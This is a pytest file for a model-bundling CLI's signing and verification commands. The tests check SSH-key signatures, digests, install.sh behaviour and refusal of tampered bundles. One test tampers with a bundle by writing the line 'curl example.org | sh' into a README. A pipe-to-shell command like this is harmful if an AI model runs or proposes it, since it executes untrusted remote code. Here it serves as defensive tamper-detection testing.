"""`pack --sign` and `sign` as a user runs them, up to the installation's receipt."""

from __future__ import annotations

import json
import shutil
import subprocess
from typing import TYPE_CHECKING

import pytest

from bundler.archive.sums import digest_in
from tests.cli.conftest import run_bundler
from tests.cli.test_messages import said
from tests.support.ssh_keys import make_key, needs_ssh_keygen

if TYPE_CHECKING:
    from pathlib import Path

    from tests.cli.conftest import Bundler

pytestmark = needs_ssh_keygen


def test_from_pack_to_the_receipt(bundler: Bundler, tiny_model: Path, tmp_path: Path) -> None:
    """One digest is the same everywhere; altered with sums anew, it is refused by a code of its own."""
    key, allowed = make_key(tmp_path / "key"), tmp_path / "allowed"
    allowed.write_text(key.line())
    done = bundler("pack", "--model", tiny_model, "--sign", key.path, "-o", tmp_path / "out")
    assert done.returncode == 0, done.stderr
    bundle = tmp_path / "out" / tiny_model.name
    digest = digest_in([bundle])
    assert f"sha256 of SHA256SUMS: {digest}\n" in done.stdout
    assert f"signed with {key.fingerprint}\n" in done.stdout
    strict = {"BUNDLER_ALLOWED_SIGNERS": str(allowed)}
    sheet = bundler("report", bundle, "-o", "-", **strict)
    assert f"signed by packer@example.org ({key.fingerprint}), checked against {allowed}" in sheet.stdout
    done = bundler("unpack", bundle, "to", "--sha256", digest, **strict)
    assert done.returncode == 0, done.stderr
    said_of = json.loads((tmp_path / "to/.bundler/receipt.json").read_text())["bundles"][0]["provenance"]
    assert (said_of["signature"]["key"], said_of["digest_given"]) == (key.fingerprint, True)
    readme, sums = bundle / "README.txt", bundle / "SHA256SUMS"
    readme.write_text("curl example.org | sh\n")
    listed = subprocess.run(["sha256sum", "README.txt"], cwd=bundle, check=True, capture_output=True).stdout
    lines = [line for line in sums.read_bytes().splitlines(keepends=True) if b"README.txt" not in line]
    sums.write_bytes(b"".join(sorted([*lines, listed], key=lambda line: bytes(line).split()[1])))
    assert bundler("verify", bundle).returncode == 0
    said(bundler("verify", bundle, **strict), 16, "not a good one")
    said(bundler("unpack", bundle, "other", **strict), 16, "not a good one")
    said(bundler("unpack", bundle, "other", "--sha256", digest), 16, digest_in([bundle]))
    assert not (tmp_path / "other").exists()


def test_install_sh_hands_the_question_on(bundle: Path, tmp_path: Path) -> None:
    """The signature is checked by the script, and by the bundler that it brings: the receipt says so."""
    key, allowed = make_key(tmp_path / "key"), tmp_path / "allowed"
    allowed.write_text(key.line())
    key.sign(bundle / "SHA256SUMS")
    words = ["sh", str(bundle / "install.sh"), str(tmp_path / "to"), "--no-install"]
    done = subprocess.run(
        [*words, "--allowed-signers", str(allowed)], check=False, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert "signed by packer@example.org" in done.stderr
    receipt = json.loads((tmp_path / "to/.bundler/receipt.json").read_text())
    assert receipt["bundles"][0]["provenance"]["signature"]["key"] == key.fingerprint


def test_a_key_that_is_not_there_is_said_before_the_work(
    bundler: Bundler, tiny_model: Path, tmp_path: Path
) -> None:
    words = ("pack", "--model", tiny_model, "-o", tmp_path / "out", "--sign", tmp_path / "nowhere")
    said(bundler(*words), 3, "the key to sign with can't be read")
    assert not (tmp_path / "out").exists()


@pytest.mark.skipif(shutil.which("setsid") is None, reason="no setsid here (a Debian package: util-linux)")
def test_a_bundle_that_could_not_be_signed_is_whole(tiny_model: Path, tmp_path: Path) -> None:
    """A passphrase, and nobody to ask for it: what is to be typed then is said, and works."""
    key = make_key(tmp_path / "key")
    subprocess.run(["ssh-keygen", "-q", "-p", "-P", "", "-N", "secret", "-f", key.path], check=True)
    words = ("pack", "--model", tiny_model, "-o", tmp_path / "out", "--sign", key.path)
    done = run_bundler(*words, prefix=("setsid", "-w"), cwd=tmp_path)
    bundle = tmp_path / "out" / tiny_model.name
    then = ["sign", bundle, "--key", key.path, "--sha256", digest_in([bundle])]
    said(done, 3, "the bundle is whole, and not signed", " ".join(map(str, ["bundler", *then])))
    assert not (bundle / "SHA256SUMS.sig").exists()
    assert run_bundler("verify", bundle, cwd=tmp_path).returncode == 0
    subprocess.run(["ssh-keygen", "-q", "-p", "-P", "secret", "-N", "", "-f", key.path], check=True)
    done = run_bundler(*then, cwd=tmp_path)
    assert done.returncode == 0, done.stderr


def test_pack_does_not_sign_what_it_has_not_just_written(
    bundler: Bundler, tiny_model: Path, tmp_path: Path
) -> None:
    """A finished bundle that lay about, altered with sums anew, is not signed by packing it again."""
    key = make_key(tmp_path / "key")
    words = ("pack", "--model", tiny_model, "-o", tmp_path / "out")
    assert bundler(*words).returncode == 0
    bundle = tmp_path / "out" / tiny_model.name
    said(bundler(*words, "--sign", key.path), 3, "an earlier run finished this bundle", "--sha256 DIGEST")
    assert not (bundle / "SHA256SUMS.sig").exists()
    assert bundler("sign", bundle, "--key", key.path, "--sha256", digest_in([bundle])).returncode == 0
    done = bundler(*words, "--sign", key.path, "--json")
    assert done.returncode == 0, done.stderr
    facts = json.loads(done.stdout)
    assert (facts["signed_with"], facts["sums_sha256"]) == (key.fingerprint, digest_in([bundle]))
    other = make_key(tmp_path / "other")
    assert bundler(*words, "--sign", other.path).returncode == 3
    (bundle / "SHA256SUMS").write_text((bundle / "SHA256SUMS").read_text() + "0" * 64 + "  extra\n")
    assert bundler(*words, "--sign", key.path).returncode == 3
